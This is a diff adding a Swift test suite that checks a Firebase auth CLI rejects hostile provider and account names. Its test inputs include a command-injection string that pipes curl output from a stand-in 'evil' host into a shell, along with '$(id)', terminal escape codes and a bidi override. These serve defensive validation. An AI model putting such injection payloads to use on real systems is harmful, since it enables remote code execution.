@@ -1,0 +1,64 @@
+import Testing
+
+@testable import AuthCore
+@testable import authctl
+
+/// What a Firebase project calls providers and accounts stands in tables, in errors and in commands to paste.
+@Suite struct `A name that a Firebase project gives` {
+    private let bench: FirebaseBench
+    private let now = ProjectDouble.now
+
+    init() throws { bench = try FirebaseBench() }
+
+    static let hostile = [
+        "x;curl${IFS}evil|sh;#", "\u{1B}[31mred", "\u{9B}2J", "a\u{202E}b", "a\nb", "a b", "",
+        String(repeating: "x", count: 129),
+        "$(id)", "it's",
+    ]
+
+    private func refused(_ body: () async throws -> Void) async -> Bool {
+        do {
+            try await body()
+            return false
+        } catch {
+            let failure = Failure(error, while: Undertaking("failed", again: "authctl signin"))
+            return failure.code == "invalid-response" && failure.exitCode == 65
+        }
+    }
+
+    @Test(arguments: hostile) func `is refused in a conflict, where people are told to sign in with it`(name: String)
+        async
+    {
+        bench.project.on(
+            "/v1/accounts:signInWithIdp",
+            .json(["needConfirmation": true, "email": "a@example.com", "verifiedProvider": [.string(name)]]))
+        #expect(await refused { _ = try await bench.directory().signIn(bench.credential("google.com"), now: now) })
+    }
+
+    @Test(arguments: hostile) func `is refused in a look-up, which prints it`(name: String) async {
+        bench.project.on("/v1/accounts:createAuthUri", .json(["registered": true, "signinMethods": [.string(name)]]))
+        #expect(await refused { _ = try await bench.directory().providers(of: "a@example.com") })
+    }
+
+    @Test(arguments: hostile) func `is refused in an account's data`(name: String) async throws {
+        bench.project.signsIn(try bench.project.idToken())
+        let entry: JSONObject = ["providerId": .string(name), "rawId": "1"]
+        bench.project.on(
+            "/v1/accounts:lookup",
+            .json(["users": [["localId": "uid-1", "providerUserInfo": [.object(entry)]]]]))
+        #expect(await refused { _ = try await bench.directory().signIn(bench.credential("google.com"), now: now) })
+        #expect(try await bench.mirror.accounts().isEmpty)
+    }
+
+    @Test func `may be anything that Firebase calls a provider, or an account`() async throws {
+        for name in ["google.com", "oidc.my-work_1", "saml.corp", "phone", "playgames.google.com", "emailLink"] {
+            #expect(IdentityKey.isProviderID(name), "\(name)")
+        }
+        for uid in ["uid-1", "user 1", "ñandú", "a@b.c", String(repeating: "x", count: 128)] {
+            #expect(Account.isUID(uid), "\(uid)")
+        }
+        for uid in ["", String(repeating: "x", count: 129), "\u{1B}[31m", "a\u{202E}", "\u{9B}", "a\nb"] {
+            #expect(!Account.isUID(uid))
+        }
+    }
+}
